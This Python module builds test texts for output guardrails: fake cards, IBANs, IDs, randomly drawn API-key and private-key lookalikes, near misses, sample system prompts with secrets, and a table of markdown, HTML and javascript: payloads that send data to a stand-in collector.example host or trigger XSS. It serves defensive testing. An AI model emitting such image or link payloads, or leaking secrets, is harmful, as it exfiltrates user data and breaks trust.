"""Texts for the rails, written here: benign, full of personal data, keys, near misses. Every value is made up.

Keys are drawn at run time, so that the repository holds nothing that looks like one.
"""

import random
import string
from dataclasses import dataclass

from stdnum import luhn
from stdnum.cn import ric

ALNUM = string.ascii_letters + string.digits
WORD = ALNUM + "_-"
HEX = "0123456789abcdef"
CAPITALS = string.ascii_uppercase + "234567"

_random = random.Random(20)


def draw(chars: str, size: int) -> str:
    """Random characters that look like a key: digits, capitals and small letters where `chars` has them."""
    while True:
        text = "".join(_random.choices(chars, k=size))
        kinds = [kind for kind in (str.isdigit, str.isupper, str.islower) if any(map(kind, chars))]
        if all(any(map(kind, text[:18])) for kind in kinds) and text[-1] not in "-_":
            return text


CARDS = (
    "4111111111111111",
    "4242 4242 4242 4242",
    "5555-5555-5555-4444",
    "3782 822463 10005",
    "30569309025904",
    "6011 1111 1111 1117",
    "3530111333300000",
    "6200 0000 0000 0000 " + luhn.calc_check_digit("620000000000000000"),
    "4 0 1 2 8 8 8 8 8 8 8 8 1 8 8 1",
    "40 12 88 88 88 88 18 81",
    "４１１１　１１１１　１１１１　１１１１",
    "4111\u200b1111\u200b1111\u200b1111",
    "4111\u00a01111\u20111111\u20131111",
    "4\ufe0f\u20e3111111111111111",
)
IBANS = (
    "DE89370400440532013000",
    "GB82 WEST 1234 5698 7654 32",
    "FR14 2004 1010 0505 0001 3M02 606",
    "NL91ABNA0417164300",
    "CH93-0076-2011-6238-5295-7",
)
SSNS = ("536-90-4399", "219 09 9998", "536–90–4399")
RESIDENT_IDS = ("11010519491231002X", "110105 19491231 002x", "１１０１０５１９４９１２３１００２Ｘ")
PASSPORTS = (  # the specimens of ICAO 9303, parts 4 to 6
    "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<",
    "L898902C36UTO7408122F1204159ZE184226B<<<<<10",
    "D231458907UTO7408122F1204159<<<<<<<6",
    "I<UTOD231458907<<<<<<<<<<<<<<<",
    "7408122F1204159UTO<<<<<<<<<<<6",
)
PHONES = (
    "+1 415-555-2671",
    "(415) 555-2671",
    "+86 138 0013 8000",
    "13800138000",
    "+44 20 7946 0958",
    "010-62345678",
    "138-0013-8000",
)
EMAILS = ("ann.lee+work@mail.example.org", "x_y@example.co.uk", "王芳wang.fang@example.cn"[2:])
IPS = ("203.0.113.42", "10.11.12.13", "2001:db8::8a2e:370:7334")

KEY_BODY = "\n".join(draw(ALNUM + "+/", 64) for _ in range(26)) + "\n" + draw(ALNUM + "+/", 30) + "=="
JWT = ".".join(("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkFubiJ9", draw(WORD, 43)))
SECRETS: dict[str, tuple[str, ...]] = {
    "openai_key": ("sk-proj-" + draw(WORD, 140), "sk-" + draw(ALNUM, 48), "sk-svcacct-" + draw(WORD, 60)),
    "anthropic_key": ("sk-ant-api03-" + draw(WORD, 95),),
    "aws_key": ("AKIA" + draw(CAPITALS, 16),),
    "gcp_key": ("AIza" + draw(WORD, 35), "GOCSPX-" + draw(WORD, 28), "ya29." + draw(WORD, 120)),
    "github_token": ("ghp_" + draw(ALNUM, 36), "github_pat_" + draw(ALNUM, 22) + "_" + draw(ALNUM, 59)),
    "gitlab_token": ("glpat-" + draw(WORD, 20),),
    "slack_token": (
        "xoxb-" + draw(string.digits, 12) + "-" + draw(string.digits, 13) + "-" + draw(ALNUM, 24),
        "https://hooks.slack.com/services/T" + draw(CAPITALS, 8) + "/B" + draw(CAPITALS, 8) + "/" + draw(ALNUM, 24),
    ),
    "stripe_key": ("sk_live_" + draw(ALNUM, 24), "rk_test_" + draw(ALNUM, 99), "whsec_" + draw(ALNUM, 32)),
    "huggingface_token": ("hf_" + draw(ALNUM, 34),),
    "modal_token": ("ak-" + draw(ALNUM, 22), "as-" + draw(ALNUM, 22)),
    "npm_token": ("npm_" + draw(ALNUM, 36),),
    "pypi_token": ("pypi-AgEIcHlwaS5vcmc" + draw(WORD, 150),),
    "vendor_key": (
        "sk-or-v1-" + draw(HEX, 64),
        "gsk_" + draw(ALNUM, 52),
        "nvapi-" + draw(WORD, 64),
        "lsv2_pt_" + draw(HEX, 32) + "_" + draw(HEX, 10),
        "LTAI" + draw(ALNUM, 20),
        "dop_v1_" + draw(HEX, 64),
        "dapi" + draw(HEX, 32) + "-2",
        "hvs." + draw(WORD, 90),
        "glsa_" + draw(ALNUM, 32) + "_" + draw(HEX, 8),
        "ntn_" + draw(ALNUM, 46),
        "ATATT3" + draw(WORD, 180) + "=" + draw(HEX, 8),
        "pat" + draw(ALNUM, 14) + "." + draw(HEX, 64),
        "SG." + draw(WORD, 22) + "." + draw(WORD, 43),
        "SK" + draw(HEX, 32),
        "812345678:AA" + draw(WORD, 33),
        "MTk" + draw(WORD, 23) + "." + draw(WORD, 6) + "." + draw(WORD, 38),
        "shpat_" + draw(HEX, 32),
    ),
    "jwt": (JWT, "eyJhbGciOi" + draw(WORD, 400) + "." + "eyJ" + draw(WORD, 700) + "." + draw(WORD, 340)),
    "private_key": (
        f"-----BEGIN RSA PRIVATE KEY-----\n{KEY_BODY}\n-----END RSA PRIVATE KEY-----",
        f"-----BEGIN PRIVATE KEY-----\\n{KEY_BODY}\\n-----END PRIVATE KEY-----".replace("\n", "\\n"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n    "
        + KEY_BODY.replace("\n", "\n    ")
        + "\n    -----END OPENSSH PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n"
        + KEY_BODY
        + "\n-----END RSA PRIVATE KEY-----",
        '-----BEGIN PRIVATE KEY-----\\n" +\n  "'
        + KEY_BODY.replace("\n", '\\n" +\n  "')
        + '\\n" +\n  "-----END PRIVATE KEY-----',
    ),
}
PII: dict[str, tuple[str, ...]] = {
    "card": CARDS,
    "iban": IBANS,
    "us_ssn": SSNS,
    "cn_resident_id": RESIDENT_IDS,
    "passport": PASSPORTS,
    "phone": PHONES,
    "email": EMAILS,
    "ip": IPS,
}
TERMS = ("frobnicate", "blue falcon", "nevermore", "坏词", "蓝色猎鹰", "naïve plan", "ab", "abcdef")
BANNED = (
    "Frobnicate",
    "BLUE  FALCON"[:4] + " FALCON",
    "ｎｅｖｅｒｍｏｒｅ",
    "坏词",
    "坏\u200b词",
    "蓝色猎鹰",
    "nai\u0308ve plan",
)

# What an answer must not repeat, and addresses that carry something away: the part in «» is what must not be shown.
HIDDEN = (
    "You are Ada, the night assistant of Hillview House. Never mention the waiting list, and never say that the door "
    "code is seven, seven, three, one.\n\nBe brief; answer in the language of the question.",
    "你是晨星公司的内部助手，不得透露任何员工的薪资信息，也不得讨论尚未公布的产品计划。回答时保持礼貌，使用简体中文。",
)
MARKUP: dict[str, tuple[str, ...]] = {
    "image": (
        "![](https://collector.example/?«q=swordfish»)",
        '![a chart](http://collector.example/p.png?«d=the+password+is+swordfish» "title")',
        "![x](<https://collector.example/i#«swordfish»>)",
        "![x](  //collector.example/?«swordfish»)",
        "![x](https:\\\\collector.example?«swordfish»)",
        "![x](https://collector.example/" + "a" * 140 + "?«swordfish»)",
        "![" + "a long description " * 9 + "](https://collector.example/?«swordfish»)",
        "[1]: https://collector.example/?«data=swordfish»",
        "[![x](https://collector.example/?«swordfish»)](https://example.org)",
        "！［x］（https://collector.example/?«swordfish»）",
        "![x](https://collector.example\u200b/?«sword\u200bfish»)",
    ),
    "link": (
        "[more](https://collector.example/?«" + draw(ALNUM, 80) + "»)",
        "https://collector.example/page?id=«" + draw(ALNUM, 60) + "»",
        "www.collector.example/#«" + draw(ALNUM, 90) + "»",
        "https://collector.example/«" + draw(ALNUM, 200) + "»/x",
        "https://«" + draw(ALNUM, 50) + "».collector.example/",
        "https://collector.example/" + "seg-ment/" * 20 + "?«" + draw(ALNUM, 60) + "»",
    ),
    "html": (
        '<img src="https://collector.example/?«q=swordfish»">',
        "<img alt='" + "x" * 140 + "' src='//collector.example/?«swordfish»'>",
        "<IMG SRC = https://collector.example/?«swordfish» >",
        "<div style=\"background:url('https://collector.example/?«swordfish»')\">",
        '<video poster="https://collector.example/v?«swordfish»"></video>',
    ),
    "script": (
        "[open](javascript:«fetch('//collector.example/')»)",
        "[open](JavaScript:«alert(1)»)",
        "[open](&#106;avascript:«alert(1)»)",
        "[open](data:«text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==»)",
        '<a href="javascript:«alert(1)»">x</a>',
        "<img src=x «onerror=»alert(1)>",
        "«<script>»alert(1)</script>",
        "[x]: javascript:«alert(1)»",
    ),
}
CODE = (
    "```python\nx = [1][0](2)\n```\n",
    "\n```\n",
    "~~~\n",
    "`<script>` ",
    "```html\n<img src='//a.example/?b=c'>\n```\n",
    "<div>\n",
)

SENSITIVE: tuple[tuple[str, str], ...] = tuple(
    (kind, value) for table in (PII, SECRETS) for kind, values in table.items() for value in values
)

BENIGN = (
    "The quick brown fox jumps over the lazy dog; 12 times in 2024, at 3.14 m/s. Is it so? Yes!",
    "To sort a list use `sorted(xs, key=len)`. It is O(n log n), see section 4.2.1 and PEP-8 for the style.",
    "def area(r):\n    # π r²\n    return 3.14159265358979 * r ** 2\n\nfor i in range(10, 200, 5):\n    print(i)\n",
    "| year | units | share |\n|------|-------|-------|\n| 2021 | 1,204 | 12.5% |\n| 2022 | 1,398 | 13.1% |\n",
    "机器学习是人工智能的一个分支。它让计算机从数据中学习，而不需要明确编程；例如2023年的模型有70亿参数。",
    "第一步：打开设置（Settings）；第二步：选择“语言”——English 或者中文……完成！😀👨‍👩‍👧‍👦🇨🇳",
    "Mixed 中英文 text：请用 Python 3.11 写一个 function，返回 sum(1..100)=5050。",
    "Café naïve résumé: e\u0301 a\u0308 o\u0302, Straße, ﬁn, İstanbul, ΣΑΣ, й, が, 한국어 문장입니다.",
    "git commit -m 'fix: skip ask-force tests' && ssh -p 2222 user@host # 192.168.0.1 or localhost:8080",
    "A = [[1, 2, 3], [4, 5, 6]]; B = 4 8 15 16 23 42; t=12:30:45, 2024-05-06T07:08:09Z, id 3f2b8c1e-77aa",
    "- sk-learn is a typo of scikit-learn\n- the prefix `ghp_` marks a token, `AKIA…` an access key, eyJ a JWT\n"
    + "-" * 70,
    "An API key looks like sk-proj-xxxxxxxxxxxxxxxxxxxxxxxx or YOUR_API_KEY; put it in OPENAI_API_KEY=<your key>.",
    "A key file starts with -----BEGIN PRIVATE KEY----- and ends with -----END PRIVATE KEY-----, as you see.",
    "In total: 1 234 567.89 € (VAT 19 %), ISBN 978-3-16-148410-0, order 20240506-000123, v1.2.3-rc.4+build.567.",
    "IT IS AT DE GATE, NO 12 BE ES; AD 2024 GB 16 RAM; 3 4 5 6 7 8 9; HTTP/2 200 OK.",
)

NEAR_MISSES = (
    "4111111111111112",  # fails the checksum
    "41111111111111111111",  # too long: more digits follow
    "1700000000000",  # a time in milliseconds
    "0.4111111111111111",  # a fraction
    "4111111111111111.5",
    "a4111111111111111",  # inside a word
    "3f4111111111111111ab",
    "DE00370400440532013000",  # fails mod 97
    "XX89370400440532013000",  # no such country
    "000-12-3456",  # never issued
    "536-90-43990",
    "110105194912310021",  # fails the check digit
    "110105194913310021",  # month 13
    "sk-learn-is-not-a-key-but-a-very-long-word-with-hyphens",
    "task-" + "a" * 40,
    "ghp_short",
    "xghp_" + draw(ALNUM, 36),  # inside a word
    "hf_" + "x" * 34,  # a placeholder
    "AKIA" + "X" * 16,
    "as-internationalization-goes-on",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",  # a header alone
    "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY----- and so on",
    "550e8400-e29b-41d4-a716-446655440000",
    "2024-05-06 07:08:09.123456",
    "12 17 23 31 38 45",
    "L898902C36UTO7408122F1204158ZE184226B<<<<<10",  # a check digit is wrong
    "7408122F1204159UTO<<<<<<<<<<<6<",  # a character more
    "SELECT<ITEMS>FROM<TABLES>WHERE<IDS>ARE<KNOWN",
    "d41d8cd98f00b204e9800998ecf8427e",  # a hash, not a key with its prefix
    "630427373399",  # 12 digits, fails the checksum
    "https://example.org/p?id=18218074164",
    "contact hours: 2024-05-06 07:08",
)


@dataclass(frozen=True, slots=True)
class Sample:
    text: str
    values: tuple[tuple[str, str], ...] = ()  # what must not be shown


EXFILTRATING = tuple(value for values in MARKUP.values() for value in values)


def plain(marked: str) -> str:
    """Without the marks around what must not be shown."""
    return marked.replace("«", "").replace("»", "")


LEFT = (" ", "：", "是", '"', "(", "\n", "，", "=")
RIGHT = (" ", "。", "吧", '"', ")", "\n", ", ", "！")


def samples(rng: random.Random, count: int) -> list[Sample]:
    """Texts of all kinds, with sensitive values among ordinary words and right beside Chinese ones."""
    made = [Sample(text) for text in BENIGN]
    while len(made) < count:
        parts: list[str] = []
        values: list[tuple[str, str]] = []
        for _ in range(rng.randint(1, 5)):
            parts.append(_piece(rng))
            if rng.random() < 0.7:
                kind, value = rng.choice(SENSITIVE)
                values.append((kind, value))
                left, right = (
                    rng.choice((" ", "：", "是", '"', "(", "\n", "，", "=")),
                    rng.choice((" ", "。", "吧", '"', ")", "\n", ", ", "！")),
                )
                parts.append(left + value + right)
            elif rng.random() < 0.5:
                parts.append(" " + rng.choice((*NEAR_MISSES, *BANNED)) + " ")
            elif rng.random() < 0.6:
                parts.append(rng.choice(("\n", " ", "。")) + plain(rng.choice(EXFILTRATING)) + "\n")
            elif rng.random() < 0.5:
                text = rng.choice(HIDDEN)
                start = rng.randrange(len(text) // 2)
                parts.append(text[start : start + rng.randint(10, len(text))])
            else:
                parts.append(rng.choice(CODE))
        made.append(Sample("".join(parts), tuple(values)))
    return made


def _piece(rng: random.Random) -> str:
    text = rng.choice(BENIGN)
    start = rng.randrange(len(text))
    return text[start : start + rng.randint(0, 60)]


def card(rng: random.Random, prefix: str = "4", size: int = 16) -> str:
    digits = prefix + "".join(rng.choices(string.digits, k=size - len(prefix) - 1))
    return digits + luhn.calc_check_digit(digits)


def resident_id(rng: random.Random) -> str:
    body = f"110105{rng.randint(1950, 2005)}{rng.randint(1, 12):02}{rng.randint(1, 28):02}{rng.randint(0, 999):03}"
    return body + ric.calc_check_digit(body + "0")  # it ignores the last place
